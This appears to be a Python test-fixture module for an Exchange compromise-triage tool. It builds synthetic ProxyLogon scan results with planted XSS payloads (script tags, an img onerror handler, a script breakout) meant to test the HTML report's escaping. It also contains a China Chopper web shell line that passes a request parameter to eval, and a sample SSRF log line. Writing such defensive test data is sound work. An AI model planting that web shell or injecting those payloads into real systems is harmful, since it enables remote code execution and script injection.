"""Scan results built directly with the model: compromised (with planted HTML/script payloads in a raw
log line and in a web shell excerpt), attempted, and clean. Used by the tests and by bench/report."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from extriage.findings import (
    AttackStory,
    Confidence,
    EvidenceLine,
    FamilyCoverage,
    FileRecord,
    Finding,
    Indicators,
    Outcome,
    ScanResult,
    Severity,
    SkippedFile,
    StoryStep,
    TimelineEvent,
    Verdict,
)

T0 = datetime(2021, 3, 2, 5, 0, tzinfo=UTC)
ATTACKER = "203.0.113.77"
ATTACKER2 = "198.51.100.23"
INTERNAL_IP = "10.20.30.40"
HOST = "EXCH01"
FQDN = "exch01.contoso.local"
USER = "jdoe"
ACCOUNT = "CONTOSO\\jdoe"
MAILBOX = "alice.admin@contoso.com"

#: Planted payloads: if either ever runs in the HTML report it sets window.__pwned and the title.
SCRIPT_PAYLOAD = "<script>window.__pwned='script';document.title='PWNED'</script>"
IMG_PAYLOAD = "<img src=x onerror=\"window.__pwned='img';document.title='PWNED'\">"
BREAKOUT_PAYLOAD = "</script><script>window.__pwned='breakout'</script>"
UA = "python-requests/2.25.1"
WEBSHELL = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\shell<x>.aspx"
WEBSHELL_SHA = "b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0"

# A real HttpProxy ECP line shape (logs-and-detections.md §1a) carrying the payloads in the URL field.
RAW_PROXY = (
    f"2021-03-02T05:31:12.345Z,{{a1b2c3d4}},15,1,2176,2,,Ecp,{FQDN},/ecp/y.js,,"
    f"BEResource=localhost~1942062522{SCRIPT_PAYLOAD},{ATTACKER},{UA}{IMG_PAYLOAD},"
    f"{MAILBOX},{ACCOUNT},{INTERNAL_IP}"
)
WEBSHELL_EXCERPT = (
    '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>'
    f"{SCRIPT_PAYLOAD}{IMG_PAYLOAD}{BREAKOUT_PAYLOAD}"
)


def _finding(i: int, **kw: object) -> Finding:
    base: dict[str, object] = {
        "rule_id": "PL-26855-SSRF",
        "title": "ProxyLogon SSRF request (CVE-2021-26855)",
        "severity": Severity.HIGH,
        "confidence": Confidence.HIGH,
        "outcome": Outcome.ATTEMPT,
        "wave": "proxylogon",
        "cves": ["CVE-2021-26855"],
        "attack": ["T1190"],
        "first_seen": T0 + timedelta(minutes=31 + i),
        "last_seen": T0 + timedelta(minutes=31 + i),
        "id": f"F{i:04d}",
    }
    base.update(kw)
    return Finding(**base)  # type: ignore[arg-type]


def compromised() -> ScanResult:
    ssrf = _finding(
        1,
        outcome=Outcome.SUCCESS,
        severity=Severity.CRITICAL,
        description=f"Request to /ecp/y.js with a BEResource cookie {SCRIPT_PAYLOAD}",
        evidence=[
            EvidenceLine(
                source="C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\HttpProxy\\Ecp\\HttpProxy_2021030205-1.LOG",
                line=12,
                raw=RAW_PROXY,
                fields={"ClientIpAddress": ATTACKER, "AuthenticatedUser": ACCOUNT, "AnchorMailbox": MAILBOX, "UserAgent": UA, "ServerHostName": FQDN},
                timestamp=T0 + timedelta(minutes=31),
                sha256="a" * 64,
            )
        ],
        indicators=Indicators(client_ips=[ATTACKER], user_agents=[UA], urls=["/ecp/y.js"], accounts=[ACCOUNT, MAILBOX], hosts=[FQDN]),
    )
    shell = _finding(
        2,
        rule_id="WS-CHINA-CHOPPER",
        title="China Chopper web shell",
        outcome=Outcome.WEBSHELL,
        severity=Severity.CRITICAL,
        wave="post-exploitation",
        cves=[],
        attack=["T1505.003"],
        evidence=[EvidenceLine(source=WEBSHELL, line=None, raw=WEBSHELL_EXCERPT, sha256=WEBSHELL_SHA)],
        indicators=Indicators(paths=[WEBSHELL], hashes=[WEBSHELL_SHA]),
    )
    dump = _finding(
        3,
        rule_id="PX-LSASS-DUMP",
        title="LSASS memory dump in C:\\Users\\jdoe\\AppData\\Local\\Temp",
        outcome=Outcome.SUCCESS,
        severity=Severity.CRITICAL,
        wave="post-exploitation",
        cves=[],
        attack=["T1003.001"],
        evidence=[EvidenceLine(source="C:\\Users\\jdoe\\AppData\\Local\\Temp\\lsass.dmp", line=None, raw="MDMP…lsass.exe", sha256="c" * 64)],
        indicators=Indicators(paths=["C:\\Users\\jdoe\\AppData\\Local\\Temp\\lsass.dmp"], hashes=["c" * 64], client_ips=[INTERNAL_IP]),
    )
    scanner = _finding(4, rule_id="SCAN-AUTODISCOVER", title="Scanner probe", outcome=Outcome.SCANNER, severity=Severity.LOW, indicators=Indicators(client_ips=[ATTACKER2]))
    r = ScanResult(
        evidence_path=f"/cases/{HOST}/C",
        layout="drive",
        hostname=FQDN,
        exchange_install="C:\\Program Files\\Microsoft\\Exchange Server\\V15",
        started=T0 + timedelta(days=30),
        finished=T0 + timedelta(days=30, minutes=2),
        tool_version="0.1.0",
        verdict=Verdict.COMPROMISED,
        verdict_reason=f"web shell written and requested from {ATTACKER}",
        waves={"proxylogon": Verdict.COMPROMISED},
        findings=[ssrf, shell, dump, scanner],
        stories=[
            AttackStory(
                wave="proxylogon",
                title=f"ProxyLogon chain from {ATTACKER}",
                client_ips=[ATTACKER],
                first_seen=T0 + timedelta(minutes=31),
                last_seen=T0 + timedelta(hours=3),
                outcome=Outcome.SUCCESS,
                steps=[
                    StoryStep(T0 + timedelta(minutes=31), "SSRF to the ECP back end", SCRIPT_PAYLOAD, ["F0001"]),
                    StoryStep(T0 + timedelta(minutes=40), "Web shell written", WEBSHELL, ["F0002"]),
                ],
            )
        ],
        timeline=[
            TimelineEvent(T0 + timedelta(hours=h, minutes=m), "HttpProxy_2021030205-1.LOG", h * 60 + m, "request", "GET /owa/", INTERNAL_IP)
            for h in range(6)
            for m in range(0, 60, 7)
        ]
        + [
            TimelineEvent(T0 + timedelta(minutes=31), "HttpProxy_2021030205-1.LOG", 12, "request", f"POST /ecp/y.js {SCRIPT_PAYLOAD}", ATTACKER, ["F0001"], RAW_PROXY),
            TimelineEvent(T0 + timedelta(minutes=40), WEBSHELL, None, "file-created", f"web shell {WEBSHELL}", "", ["F0002"]),
        ],
        files=[
            FileRecord("C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\HttpProxy\\Ecp\\HttpProxy_2021030205-1.LOG", "a" * 64, 12345, T0),
            FileRecord(WEBSHELL, WEBSHELL_SHA, 345, T0),
        ],
        activity={"requests_per_hour": {f"{(T0 + timedelta(hours=h)):%Y-%m-%dT%H}:00Z": {"total": 50 + h, "attacker": 5 if h == 0 else 0} for h in range(6)}},
        extras={
            "patch": {
                "build": "15.1.2176.2",
                "product": "Exchange Server 2016",
                "cu": "CU19",
                "su": "",
                "support": "out of support",
                "exact_match": True,
                "nearest": "15.1.2176.2",
                "cves": [
                    {"id": "CVE-2021-26855", "wave": "proxylogon", "status": "vulnerable", "known_exploited": True,
                     "fixed_by": {"kb": "KB5000871", "build": "15.1.2176.9", "name": "Exchange Server 2016 CU19 Mar21SU"}},
                    {"id": "CVE-2021-34473", "wave": "proxyshell", "status": "vulnerable", "known_exploited": True, "fixed_by": None},
                ],
                "notes": [],
            },
            "mitigation": {"url_rewrite_26855": "absent", "source": f"\\\\{HOST}\\c$\\Windows\\System32\\inetsrv\\config\\applicationHost.config"},
        },
    )
    fam = FamilyCoverage("httpproxy", files=3, lines=5000, parsed=120, bytes=900_000, first=T0, last=T0 + timedelta(hours=6))
    r.coverage.families["httpproxy"] = fam
    r.coverage.skipped.append(SkippedFile(f"\\\\{FQDN}\\logs\\broken{IMG_PAYLOAD}.log", "truncated gzip"))
    r.coverage.warnings.append("Event logs were not part of the collection.")
    return r


def attempted() -> ScanResult:
    r = ScanResult(
        evidence_path="/cases/EXCH02",
        hostname="EXCH02",
        verdict=Verdict.ATTEMPTED,
        verdict_reason=f"SSRF attempts from {ATTACKER2}, all answered 401",
        findings=[_finding(1, indicators=Indicators(client_ips=[ATTACKER2], user_agents=["curl/7.68"]),
                           evidence=[EvidenceLine("u_ex210302.log", 4, f"2021-03-02 05:31:12 10.0.0.5 POST /ecp/x.js - 443 - {ATTACKER2} curl/7.68 - 401", timestamp=T0)])],
        started=T0,
        finished=T0,
    )
    r.coverage.families["iis"] = FamilyCoverage("iis", files=1, lines=100, first=T0, last=T0 + timedelta(days=1))
    return r


def clean() -> ScanResult:
    r = ScanResult(evidence_path="/cases/EXCH03", hostname="EXCH03", verdict=Verdict.NO_EVIDENCE, verdict_reason="no finding raised the verdict")
    r.coverage.families["iis"] = FamilyCoverage("iis", files=2, lines=2000, first=T0, last=T0 + timedelta(days=14))
    return r


def large(n: int) -> ScanResult:
    """A compromised result with ``n`` findings (for the paging test and the benchmark)."""
    r = compromised()
    base = r.findings[0]
    extra = []
    for i in range(n - len(r.findings)):
        ip = f"203.0.{(i // 250) % 2}.{i % 250 + 1}"  # 500 distinct attacker addresses
        extra.append(
            _finding(
                10 + i,
                first_seen=T0 + timedelta(seconds=i),
                last_seen=T0 + timedelta(seconds=i),
                id=f"F{10 + i:06d}",
                evidence=[EvidenceLine(base.evidence[0].source, 100 + i, RAW_PROXY.replace(ATTACKER, ip), timestamp=T0 + timedelta(seconds=i))],
                indicators=Indicators(client_ips=[ip], user_agents=[UA], urls=["/ecp/y.js"]),
            )
        )
    r.findings.extend(extra)
    return r


_ASPNET_CLIENT_PAGE = r"C:\inetpub\wwwroot\aspnet_client\s.aspx"


def mixed_reasons(second_reason: str) -> ScanResult:
    """A location finding whose second line was kept by another rule (its reason), and a line with none."""
    result = ScanResult(evidence_path="/ev")
    result.verdict = Verdict.COMPROMISED
    f = Finding(rule_id="WF-LOC-ASPNET-CLIENT", title="Server-side page in aspnet_client", severity=Severity.CRITICAL,
                confidence=Confidence.HIGH, outcome=Outcome.WEBSHELL, first_seen=T0, last_seen=T0)
    f.id = "F0001"
    f.evidence.append(EvidenceLine(source="/ev/s.aspx", line=None, raw=_ASPNET_CLIENT_PAGE, fields={"reason": "WF-LOC-ASPNET-CLIENT"}))
    f.evidence.append(EvidenceLine(source="/ev/s.aspx", line=None, raw=_ASPNET_CLIENT_PAGE, fields={"reason": second_reason}))
    f.evidence.append(EvidenceLine(source="/ev/s.aspx", line=1, raw="<% x %>", fields={}))
    result.findings.append(f)
    return result
